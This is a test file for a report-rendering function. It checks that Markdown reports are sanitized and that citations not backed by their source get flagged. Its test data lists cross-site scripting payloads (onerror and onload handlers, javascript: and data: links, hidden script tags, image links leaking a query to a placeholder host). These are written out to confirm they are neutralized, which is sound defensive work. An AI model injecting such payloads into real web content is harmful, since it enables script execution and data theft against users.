import { expect, test } from 'vitest';
import { finishReport } from '../src/index.ts';

const passages = new Map([
  [
    1,
    {
      id: 'a',
      title: 'A [x](javascript:a) <b>',
      url: 'docs/a.md',
      source: 'local',
      heading: '',
      text: 'Hono has no dependencies.',
    },
  ],
]);
const finish = (body: string, enableCitations = true) =>
  finishReport({ title: 'Title', body, passages, verify: true, enableCitations, unanswered: ['Q <i>'] });

test.each([
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '[x](javascript:alert(1))',
  '[a [b] c](javascript:alert(1))',
  '[x](\njavascript:alert(1))',
  '[x]( <javascript:alert(1)>)',
  '[x](data:text/html,1)',
  '![a](http://example.invalid/?q=secret)',
  '![a [b]](http://example.invalid/?q=secret)',
  '![a][r]\n\n[r]: http://example.invalid/x',
  '[r]: javascript:alert(1)',
  '> [r]:\n> javascript:alert(1)',
  '<!-- a\n--><script>1</script>',
  '- a\n   ```\n<script>1</script>',
  '| ` | <script> ` |',
  '\\`<script>`',
])('P112 nothing in a report is active when rendered: %j', (body) => {
  const { report } = finish(body);
  const outsideCode = report.replace(/`[^`\n]+`/g, '');
  expect(outsideCode).not.toMatch(/<[a-z!/]/i);
  expect(report).not.toMatch(/\]\(\s*<?\s*(?!https?:|mailto:)/i);
  expect(report).not.toMatch(/!\[/);
  expect(report).not.toMatch(/\[r\]:/);
});

test('links to the web and code stay as they are', () => {
  const body = 'See [site](https://example.org/a_(b)) and `a < b`.\n\n```html\n<b>[1]</b>\n```';
  expect(finish(body).report).toContain(body);
});

test('a report has title, body, notes and the true sources in place of those that the model made up', () => {
  const body =
    'Hono has no dependencies [1]. It costs 5 dollars [1].\n\n## References\n\n- [1] Wrong (https://wrong)';
  expect(finish(body).report).toBe(
    '# Title\n\nHono has no dependencies [1]. It costs 5 dollars [1: not supported by its source].\n\n' +
      '> Note: 1 of 2 citations do not hold against their source; they are marked.\n\n' +
      '> The documents hold nothing on:\n> - Q &lt;i>\n\n## Sources\n\n- [1] A x (javascript:a) &lt;b> — docs/a.md\n',
  );
});

test('with citations off there are no references, no sources and no citations', () => {
  const { report, citations } = finish('Hono has no dependencies [1].', false);
  expect(report).toContain('Hono has no dependencies.\n');
  expect(report).not.toMatch(/\[\d|Sources/);
  expect(citations).toEqual([]);
});
